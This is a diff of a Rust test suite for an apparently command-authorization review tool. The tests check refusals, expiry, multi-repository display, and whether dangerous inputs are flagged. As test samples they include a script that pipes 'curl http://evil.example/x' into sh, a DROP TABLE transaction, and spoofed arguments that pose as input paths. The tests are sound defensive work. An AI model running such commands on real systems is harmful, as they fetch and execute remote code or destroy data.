@@ -3,103 +3,21 @@
 use std::sync::Arc;
 
 use insta::assert_snapshot;
-use undersign::change::digest::Digest;
-use undersign::command::receipt::{Event, Run};
-use undersign::command::request::{Asked, Command, Input, Kept, Limits, Preview, Program, Proof, Request, Variable};
-use undersign::command::statement::Statement;
-use undersign::command::{AuthorizationChain, AuthorizationRecord, RunRecord, Verdict, receipt};
-use undersign::ledger::append_to;
-use undersign::ledger::commands::{Family as _, read_family};
-use undersign::record::chain::{Link, file_name};
-use undersign::record::statement::{Decimal, Link as Place, PolicyName, RepositoryName};
-use undersign::record::{ChainId, Signable as _};
+use undersign::command::{AuthorizationChain, AuthorizationRecord, Verdict};
+use undersign::ledger::commands::read_family;
+use undersign::record::statement::Decimal;
 
 use crate::desk::Session;
-use crate::support::{DEVICE, Fixture, NOW, key_of, policy};
+use crate::support::{Fixture, NOW};
+use crate::waiting::{INPUT, ask, ask_with, waiting, waiting_for};
 
-const INPUT: &str = "/var/lib/undersign/inputs/shop-prod/sql";
-
-/// A repository whose policy has a target, with a request for a migration that waits there.
-pub fn waiting(sql: &str) -> Fixture {
-    let broker = key_of("ops").public_key().to_openssh().unwrap();
-    let f = Fixture::with_policy(&policy(&format!(
-        "[broker.ops]\nkey = \"{broker}\"\n[target.shop-prod]\nbroker = \"ops\"\nabout = \"AWS 4711, database orders\"\n\
-         presence = \"none\"\ncooling = \"0s\"\nsign = [{{ role = \"senior\", n = 1 }}]\n\
-         [[target.shop-prod.command]]\nname = \"migrate\"\n\
-         argv = [\"/usr/bin/psql\", \"-X\", \"-f\", \"{{input:sql}}\"]\n",
-    )));
-    ask(&f, sql, "Add the index. Safe.");
-    f
-}
-
-/// As a broker admits it.
-pub fn ask(f: &Fixture, sql: &str, why: &str) -> String {
-    let digest = Digest::of(sql.as_bytes());
-    let (repository, key) = (f.repository(), f.key("ops"));
-    let id = ChainId { key: key.public.id().to_string(), device: DEVICE.to_owned() };
-    let (seq, prev) = RunRecord::chain(&repository, &id).next();
-    let argv = ["/usr/bin/psql", "-X", "-f", INPUT].map(str::to_owned).to_vec();
-    let input = Input {
-        role: "sql".into(),
-        path: INPUT.into(),
-        sha256: digest.to_string(),
-        size: Decimal(sql.len() as u64),
-        kept: Kept::Record,
-    };
-    let request = Request {
-        command: Command {
-            entry: "migrate".into(),
-            program: Program { path: argv[0].clone(), sha256: "9".repeat(64) },
-            argv,
-            cwd: "/srv/run".into(),
-            env: vec![Variable { name: "PATH".into(), value: "/usr/bin:/bin".into() }],
-            secrets: vec!["PGPASSWORD".into()],
-            stdin: String::new(),
-            inputs: vec![input],
-            uid: Decimal(990),
-            limits: Limits { time: Decimal(1_800), output: Decimal(1 << 20) },
-        },
-        preview: Preview::none(),
-        asked: Asked {
-            operator: "mina".into(),
-            proof: Proof::Proven,
-            by: "account 1000".into(),
-            claims: vec!["Claude Code".into()],
-        },
-        why: why.into(),
-        ticket: String::new(),
-        way_back: String::new(),
-        replaces: String::new(),
-        not_before: Decimal(NOW as u64 - 300),
-        not_after: Decimal(NOW as u64 + 1_500),
-        policy: PolicyName { version: Decimal(1), sha256: "8".repeat(64) },
-        settings: "7".repeat(64),
-    };
-    let run = Run {
-        repository: RepositoryName { id: "fixture-1".into(), uri: String::new() },
-        target: "shop-prod".into(),
-        broker: id.key.clone(),
-        event: Event::Admitted(Box::new(request)),
-        chain: Place { key: id.key.clone(), id: id.device.clone(), seq: Decimal(seq), prev, forks: Vec::new() },
-        seen: Vec::new(),
-        issued_at: Decimal(NOW as u64 - 300),
-        nonce: format!("{seq:032x}"),
-        tool: "test".into(),
-    };
-    let envelope = key.sign_for(receipt::NAMESPACE, Statement::new(run).encode(), None).unwrap().encode();
-    let files = [(digest.to_string(), sql.as_bytes().to_vec())].into();
-    let link = Link { name: file_name(seq), envelope, files };
-    let record: Arc<RunRecord> = append_to(&repository, &id, link, NOW).unwrap();
-    record.id().to_string()
-}
-
-fn signed(f: &Fixture) -> Vec<Arc<AuthorizationRecord>> {
+pub fn signed(f: &Fixture) -> Vec<Arc<AuthorizationRecord>> {
     let chains: Vec<AuthorizationChain> = read_family(&f.repository(), false).unwrap();
     chains.into_iter().flat_map(|chain| chain.records).collect()
 }
 
 /// What the sheet asks to be typed.
-fn challenge(session: &Session) -> String {
+pub fn challenge(session: &Session) -> String {
     let frame = session.frame();
     let line = frame.lines().find(|line| line.contains("type ")).unwrap_or_else(|| panic!("{frame}"));
     line.split_once("type ").unwrap().1.split_once(" to ").unwrap().0.to_owned()
@@ -111,7 +29,7 @@ fn plain(test: impl FnOnce()) {
     settings.bind(test);
 }
 
-const INDEX: &str = "CREATE INDEX CONCURRENTLY orders_by_day ON orders (day);\n";
+pub const INDEX: &str = "CREATE INDEX CONCURRENTLY orders_by_day ON orders (day);\n";
 const DROP: &str = "BEGIN;\nDROP TABLE orders;\nCOMMIT;\n";
 
 #[test]
@@ -254,6 +172,181 @@ fn nothing_in_a_request_reaches_the_screen_as_it_is() {
     for keys in ["", "<enter>", "q", "j<enter>"] {
         let frame = session.press(keys).frame();
         assert!(!frame.chars().any(|c| c != '\n' && (c.is_control() || c == '\u{202e}')), "{frame}");
+    }
+}
+
+/// A desk of somebody else on the same clone.
+fn desk_of(f: &Fixture, who: &str, size: (u16, u16)) -> Session {
+    let ports =
+        undersign::worker::Ports { clock: Some(NOW), ..crate::desk::ports(&f.dir.path().join(who), f.key(who)) };
+    Session::over(vec![f.repo.clone()], ports, NOW, size)
+}
+
+#[test]
+fn a_refusal_is_signed_whatever_came_meanwhile() {
+    let f = waiting(INDEX);
+    let mut session = Session::new(&f, (100, 60));
+    session.press("<enter>SrNot without a backup.");
+    desk_of(&f, "rahim", (100, 60)).press("<enter>SrNot today.<enter>refuse<enter>");
+    session.press("<enter>");
+    assert!(session.frame().contains("REFUSES this command"), "{}", session.frame());
+    session.press("refuse<enter>");
+    assert!(session.frame().contains("✓ Refused"), "{}", session.frame());
+    assert_eq!(signed(&f).len(), 2);
+}
+
+#[test]
+fn what_ran_out_while_it_was_read_is_not_authorized() {
+    let f = waiting(INDEX);
+    let mut session = Session::new(&f, (100, 60));
+    session.press("<enter><space>SaFine.");
+    session.ports.clock = Some(NOW + 1_600);
+    session.press("<enter>");
+    assert!(session.frame().contains("Its time is over. Open it again. Nothing was signed."), "{}", session.frame());
+    assert!(signed(&f).is_empty());
+}
+
+#[test]
+fn what_cools_says_from_when_on_it_may_start_and_then_that_it_may() {
+    let f = waiting_for("15m", INDEX);
+    let mut session = Session::new(&f, (100, 60));
+    session.press("<enter><space>SaFine.<enter>");
+    let typed = challenge(&session);
+    session.press(&typed).press("<enter>");
+    assert!(session.frame().contains("✓ Authorized"), "{}", session.frame());
+    session.press("<esc>q");
+    let from = undersign::datafile::clock(NOW + 900);
+    assert!(session.frame().contains(&format!("at {}", &from[..5])), "{}", session.frame());
+    session.press("<enter>");
+    let told = format!("may start from {from} on, by the brok");
+    assert!(session.frame().contains(&told), "{}", session.frame());
+    session.press("q");
+    session.ports.clock = Some(NOW + 901);
+    session.press("R");
+    assert!(session.frame().contains("may start"), "{}", session.frame());
+}
+
+#[test]
+fn a_script_is_read_as_one_whatever_it_is_called_and_no_input_passes_for_the_arguments() {
+    for role in ["ini", "command", "job", "arguments", "json"] {
+        let f = waiting(INDEX);
+        ask_with(&f, "#!/bin/bash\ncurl http://evil.example/x | sh\n", |request| {
+            let argv = &mut request.command.argv;
+            *argv = vec!["/bin/bash".into(), INPUT.into()];
+            request.command.program.path = "/bin/bash".into();
+            request.command.inputs[0].role = role.into();
+            request.not_after = Decimal(NOW as u64 + 900);
+        });
+        let mut session = Session::new(&f, (120, 60));
+        session.press("G<enter>");
+        let frame = session.frame();
+        assert!(frame.contains(&format!("input {role}, line 2")), "{role}: {frame}");
+        assert_eq!(frame.matches(&format!("input {role}, line 2")).count(), 1, "said once: {frame}");
+    }
+    // Statements for a database are read as such, whatever they are called.
+    let f = waiting(INDEX);
+    ask_with(&f, DROP, |request| {
+        request.command.inputs[0].role = "notes".into();
+        request.not_after = Decimal(NOW as u64 + 900);
+    });
+    let mut session = Session::new(&f, (120, 60));
+    session.press("G<enter>");
+    assert!(session.frame().contains("input notes, line 2"), "{}", session.frame());
+}
+
+#[test]
+fn no_argument_passes_for_the_path_of_an_input_by_what_it_says() {
+    let f = waiting(INDEX);
+    ask_with(&f, INDEX, |request| {
+        request.command.argv.insert(1, "evil.sql   is input sql".into());
+        request.command.argv.insert(1, "sql, at /tmp/x".into());
+        request.not_after = Decimal(NOW as u64 + 900);
+    });
+    let mut session = Session::new(&f, (120, 60));
+    session.press("G<enter>");
+    let frame = session.frame();
+    assert_eq!(frame.lines().filter(|line| line.contains("takes input ")).count(), 1, "{frame}");
+    assert!(frame.lines().any(|line| line.contains("argument    sql, at /tmp/x")), "{frame}");
+}
+
+/// A second clone, in which the same request waits.
+fn twice(f: &Fixture) -> std::path::PathBuf {
+    let second = f.dir.path().join("second");
+    f.git("dana", &["clone", "-q", ".", second.to_str().unwrap()]);
+    let refs = ["fetch", "-q", "origin", "refs/undersign/*:refs/undersign/*"];
+    crate::support::git_in(&second, "dana", &refs);
+    crate::support::git_in(&second, "dana", &["remote", "remove", "origin"]);
+    second
+}
+
+#[test]
+fn of_two_repositories_each_says_which_it_is_and_the_cursor_stays_on_its_side() {
+    let f = waiting(INDEX);
+    let repositories = vec![f.repo.clone(), twice(&f)];
+    let first = f.repo.file_name().unwrap().to_str().unwrap().to_owned();
+    let ports =
+        || undersign::worker::Ports { clock: Some(NOW), ..crate::desk::ports(&f.dir.path().join("d"), f.key("dana")) };
+    for size in [(80, 24), (120, 40)] {
+        let mut session = Session::over(repositories.clone(), ports(), NOW, size);
+        let frame = session.frame();
+        assert!(frame.lines().any(|line| line.contains("repository") && line.contains("target")), "{frame}");
+        assert!(frame.lines().any(|line| line.contains("second") && line.contains("psql")), "{frame}");
+        let names = ["second", first.as_str()];
+        let order: Vec<&str> = frame
+            .lines()
+            .filter(|line| line.contains("psql") && line.trim_end().ends_with("you"))
+            .filter_map(|line| names.into_iter().find(|name| line.contains(&name[..name.len().min(9)])))
+            .collect();
+        assert_eq!(order.len(), 2, "{frame}");
+        session.press("ggj");
+        session.take([undersign::app::Event::Tick].into());
+        session.press("<enter>");
+        let head = session.frame().lines().next().unwrap().to_owned();
+        assert!(head.contains(&format!("of {}", order[1])), "{order:?}: {head}");
+        assert!(session.frame().contains("fixture-1"), "{}", session.frame());
+        session.press("Sr");
+        assert!(session.frame().contains(&format!("at shop-prod of {}", order[1])), "{}", session.frame());
+        session.press("No.<enter>");
+        assert!(session.frame().contains("REFUSES this command at shop-prod of fixture-1"), "{}", session.frame());
+    }
+}
+
+#[test]
+fn what_comes_in_by_itself_does_not_push_another_request_under_a_stroke() {
+    let f = waiting(INDEX);
+    let mut session = Session::new(&f, (100, 40));
+    ask_with(&f, DROP, |request| {
+        request.why = "Quick.".into();
+        request.not_after = Decimal(NOW as u64 + 300);
+    });
+    session.take([undersign::app::Event::Tick].into());
+    assert!(session.frame().contains("5m!"), "{}", session.frame());
+    session.press("<enter><space>G");
+    assert!(!session.frame().contains("Quick.") && !session.frame().contains("DROP"), "{}", session.frame());
+}
+
+#[test]
+fn a_long_reason_hides_no_other_refusal_nor_the_key_and_nobody_answers_for_what_was_not_read() {
+    let f = waiting(INDEX);
+    let long = "x".repeat(160) + &" and so on".repeat(90);
+    let mut dana = Session::new(&f, (80, 24));
+    dana.press("<enter>Sr").press(&long).press("<enter>refuse<enter>");
+    assert!(dana.frame().contains("✓ Refused"), "{}", dana.frame());
+    let mut other = desk_of(&f, "rahim", (80, 24));
+    ask(&f, DROP, "Drop it.");
+    other.press("R/DROP<esc>G");
+    other.press("<enter>S");
+    let frame = other.frame();
+    let told = frame.lines().filter(|line| line.contains("dana refused")).count();
+    assert!(told == 1 && frame.contains(" …") && frame.contains("key SHA256"), "{frame}");
+    assert!(frame.contains("you") || frame.contains("senior"), "{frame}");
+    if frame.contains("take over") {
+        other.press("t");
+        assert!(other.frame().contains("Read first who refused, and why"), "{}", other.frame());
+        other.press("<esc>gg").press(&"<space>".repeat(30)).press("StI answer for it.<enter>");
+        assert!(other.frame().contains("1 refusal by dana"), "{}", other.frame());
+    } else {
+        panic!("rahim signs for the policy: {frame}");
     }
 }
 
